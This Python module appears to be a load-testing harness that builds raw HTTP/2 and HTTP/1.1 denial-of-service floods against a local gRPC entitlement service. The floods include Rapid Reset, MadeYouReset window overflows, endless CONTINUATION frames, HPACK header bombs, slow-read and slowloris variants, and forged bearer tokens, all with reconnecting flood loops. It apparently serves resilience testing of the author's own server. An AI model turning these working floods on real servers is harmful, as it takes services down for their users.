"""Floods of HTTP/2 and HTTP/1.1, as bytes: what a peer may send that costs a server more than the peer. Used by hostile.py.

Each attacker keeps its connections to the server and begins another when one is closed. It reads what it is answered, so that the
server's output is no excuse, unless its name says otherwise.
"""
import base64
import functools
import hashlib
import itertools
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
WATCH = b"/perch.v1.EntitlementService/SubscriptionStatusTask"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(name, value):
    """A field without indexing, whose name and value have less than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", WATCH), (b":authority", b"localhost"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))
ASK = b"\x12\x05alice\x1a\x07premium"
MESSAGE = b"\0" + struct.pack(">I", len(ASK)) + ASK


def rapid_reset(stream):
    """Opens streams and resets each at once."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(RESET, 0, number, struct.pack(">I", 8))
                    for number in range(stream, stream + 200, 2))


def answered_reset(stream):
    """Opens watches, and resets each when it could have been answered."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
                    for number in range(stream, stream + 100, 2)) + b"".join(
                        frame(RESET, 0, number, struct.pack(">I", 8)) for number in range(stream, stream + 100, 2))


def overflowing_windows(stream):
    """MadeYouReset: the window of each stream overflows, so that the server resets it."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(WINDOW, 0, number, struct.pack(">I", 0x7FFFFFFF))
                    for number in range(stream, stream + 200, 2))


def empty_windows(stream):
    """MadeYouReset: WINDOW_UPDATE by nothing, which is an error of the stream."""
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(WINDOW, 0, number, struct.pack(">I", 0))
                    for number in range(stream, stream + 200, 2))


def continuations(stream):
    """A header block that never ends."""
    return frame(HEADERS, 0, stream, HEAD) + b"".join(
        frame(CONTINUATION, 0, stream, literal(b"x-%d" % number, b"y" * 100)) for number in range(2_000))


def pings(_):
    return frame(PING, 0, 0, b"12345678") * 500


def settings(_):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70_000)) * 500


def header_bombs(stream):
    """One field of 3.9 kB in the table, which each request repeats a thousand times."""
    value = b"z" * 3_900
    entry = b"\x40\x01x\x7f" + integer(len(value) - 127) + value
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, entry + b"\xbe" * 1_000)
                    for number in range(stream, stream + 40, 2))


def tiny_windows(stream):
    """Five hundred watches that wait for the connection's window, which opens byte by byte."""
    if stream == 1:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20)) + b"".join(
            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
            for number in range(1, 1_001, 2))
    return frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500


def opening_windows(stream):
    """SETTINGS that open and shut the windows of five hundred watches, so that DATA goes out in between."""
    if stream == 1:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)) + b"".join(
            frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE)
            for number in range(1, 1_001, 2))
    return b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, stream // 4 * (turn % 2))) for turn in range(20))


def request(path, *fields):
    return b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"), *fields))


def named_heads(stream):
    """Requests that stay open, each of which names one field of 3.9 kB in the table."""
    value = b"z" * 3_900
    entry = b"\x40\x0dauthorization\x7f" + integer(len(value) - 127) + value
    return frame(HEADERS, END_HEADERS, stream, HEAD + entry) + b"".join(
        frame(HEADERS, END_HEADERS, number, HEAD + b"\xbe") for number in range(stream + 2, stream + 400, 2))


def unfinished_bodies(stream):
    """Requests that lack the end of their messages."""
    body = b"\0" + struct.pack(">I", 14_000) + b"x" * 8_000
    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, 0, number, body)
                    for number in range(stream, stream + 40, 2))


def refused_calls(stream):
    """Calls of a method that there is not."""
    head = request(b"/perch.v1.EntitlementService/Nothing")
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(stream, stream + 400, 2))


def reflections(stream):
    """Requests of some twenty bytes for descriptors of some fifty kilobytes."""
    head = request(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    ask = b"\x22\x1bperch.v1.EntitlementService"
    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(
        DATA, 0, number, (b"\0" + struct.pack(">I", len(ask)) + ask) * 100) for number in range(stream, stream + 10, 2))


def health_watches(stream):
    """Watches of health that stay open."""
    head = request(b"/grpc.health.v1.Health/Watch")
    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(DATA, END_STREAM, number, b"\0" * 5)
                    for number in range(stream, stream + 200, 2))


def bad_token(number):
    """A token whose signature is wrong, another one for each number."""
    claims = base64.urlsafe_b64encode(b'{"jti":"%d","exp":4000000000}' % number).rstrip(b"=")
    return b"Bearer eyJhbGciOiJFUzI1NiJ9." + claims + b"." + base64.urlsafe_b64encode(
        hashlib.sha512(b"%d" % number).digest()).rstrip(b"=")


def bad_tokens(stream):
    """Calls with tokens whose signatures are wrong, each another one."""
    def head(number):
        token = bad_token(next(NUMBERS))
        return HEAD + b"\x10\x0dauthorization\x7f" + integer(len(token) - 127) + token
    return b"".join(frame(HEADERS, END_HEADERS, number, head(number)) + frame(DATA, END_STREAM, number, MESSAGE)
                    for number in range(stream, stream + 200, 2))


def empty_data(stream):
    """DATA without bytes on a request that stays open."""
    return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(DATA, 0, stream) * 500


def window_updates(_):
    """A window of the connection that opens byte by byte, for nothing."""
    return frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500


def served_files(stream):
    """Files of the console, some hundred kilobytes for some bytes each."""
    head = b"".join(literal(name, value) for name, value in (
        (b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/console/store.js"), (b":authority", b"localhost")))
    return frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20)) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(stream, stream + 40, 2))


# Floods of HTTP/1.1. Their argument rises by 400 with each burst on a connection, from 1.

def plain(verb, path, *fields, body=b""):
    return b"\r\n".join((b"%s %s HTTP/1.1" % (verb, path), b"Host: localhost", *fields, b"", body))


def refused_pipeline(_):
    """Requests for what there is not, ahead of their answers."""
    return plain(b"GET", b"/perch.v1.EntitlementService/Nothing") * 200


def refused_reads(_):
    """Reads that lack a field."""
    return plain(b"GET", b"/perch.v1.EntitlementService/GetSubscriptionStatus?account=alice") * 200


def preflights(_):
    return plain(b"OPTIONS", WATCH, b"Origin: https://elsewhere.example.com", b"Access-Control-Request-Method: POST") * 200


def endless_heads(burst):
    """A head that goes on line by line."""
    return (plain(b"GET", b"/")[:-2] if burst == 1 else b"") + b"x-y: z\r\n" * 20


def long_heads(_):
    """Heads of some fifteen kilobytes."""
    return plain(b"GET", b"/nothing", b"x-y: " + b"z" * 15_000) * 4


def slow_bodies(burst):
    """A body that comes byte by byte."""
    return plain(b"POST", WATCH, b"Content-Type: application/json", b"Content-Length: 14000") if burst == 1 else b" "


def tiny_chunks(burst):
    """A body in chunks of one byte."""
    head = plain(b"POST", WATCH, b"Content-Type: application/json", b"Transfer-Encoding: chunked")
    return (head if burst == 1 else b"") + b"1\r\n \r\n" * 500


def expectations(_):
    """A head that asks whether its body is welcome, on a connection of its own each time."""
    return plain(b"POST", WATCH, b"Content-Type: application/json", b"Content-Length: 5", b"Expect: 100-continue") + b"     "


def served_files_pipeline(_):
    return plain(b"GET", b"/console/store.js") * 20


def reflection_pipeline(_):
    """Calls of reflection by gRPC-Web, a hundred questions each."""
    ask = b"\x22\x1bperch.v1.EntitlementService"
    body = (b"\0" + struct.pack(">I", len(ask)) + ask) * 100
    return plain(b"POST", b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
                 b"Content-Type: application/grpc-web+proto", b"Content-Length: %d" % len(body), body=body)


def health_pipeline(_):
    return plain(b"POST", b"/grpc.health.v1.Health/Check", b"Content-Type: application/json", b"Content-Length: 2",
                 body=b"{}") * 200


def bad_tokens_pipeline(_):
    """Reads with tokens whose signatures are wrong, each another one."""
    return b"".join(
        plain(b"GET", b"/perch.v1.EntitlementService/GetSubscriptionStatus?account=alice&groupId=premium",
              b"Authorization: " + bad_token(next(NUMBERS))) for _ in range(100))


# Of all bad tokens that a process makes.
NUMBERS = itertools.count()


def integer(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


HTTP2 = (rapid_reset, answered_reset, overflowing_windows, empty_windows, continuations, pings, settings, header_bombs,
         tiny_windows, opening_windows, named_heads, unfinished_bodies, refused_calls, reflections, health_watches,
         bad_tokens, empty_data, window_updates, served_files)
HTTP1 = (refused_pipeline, refused_reads, preflights, endless_heads, long_heads, slow_bodies, tiny_chunks, expectations,
         served_files_pipeline, reflection_pipeline, health_pipeline, bad_tokens_pipeline)
KINDS = HTTP2 + HTTP1
# Floods whose bytes differ each time.
FRESH = (bad_tokens, bad_tokens_pipeline)


@functools.cache
def made(kind, stream):
    return kind(stream)


def connect(address, kind, tls):
    """A connection that has said what comes before the first burst of a kind."""
    peer = socket.create_connection(address, timeout=5)
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2" if kind in HTTP2 else "http/1.1"])
        peer = context.wrap_socket(peer)
    if kind in HTTP2:
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
    peer.setblocking(False)
    return peer


def flood(address, kinds, connections, tls, stop):
    """Sends what each of `kinds` makes, on so many connections each."""
    peers = {}
    while not stop.is_set():
        for key in itertools.product(kinds, range(connections)):
            if stop.is_set():
                return
            kind = key[0]
            peer, stream, rest = peers.get(key, (None, 1, b""))
            try:
                if peer is None:
                    peer, stream, rest = connect(address, kind, tls), 1, b""
                if not rest:
                    rest = kind(stream) if kind in FRESH else made(kind, stream)
                    stream += 400
                try:
                    rest = rest[peer.send(rest):]
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                try:
                    while peer.recv(1 << 20):
                        pass
                    raise ConnectionError
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
            except OSError:
                if peer:
                    peer.close()
                peer = None
            peers[key] = (peer, stream, rest)
        # Some hundred bursts a second: more would measure this process.
        time.sleep(0.002)


def quiet(address, kinds, connections, tls, stop):
    """As many connections, which say nothing beyond what comes first."""
    peers = [connect(address, kind, tls) for kind in kinds for _ in range(connections)]
    stop.wait()
    for peer in peers:
        peer.close()


def slow_reads(address, connections, streams, stop):
    """Many watches whose windows stay shut, and sockets that are never read."""
    peers = []
    for _ in range(connections):
        peer = socket.create_connection(address, timeout=5)
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for number in range(1, 2 * streams, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, END_STREAM, number, MESSAGE))
        peers.append(peer)
    while not stop.is_set():
        time.sleep(0.05)
    for peer in peers:
        peer.close()
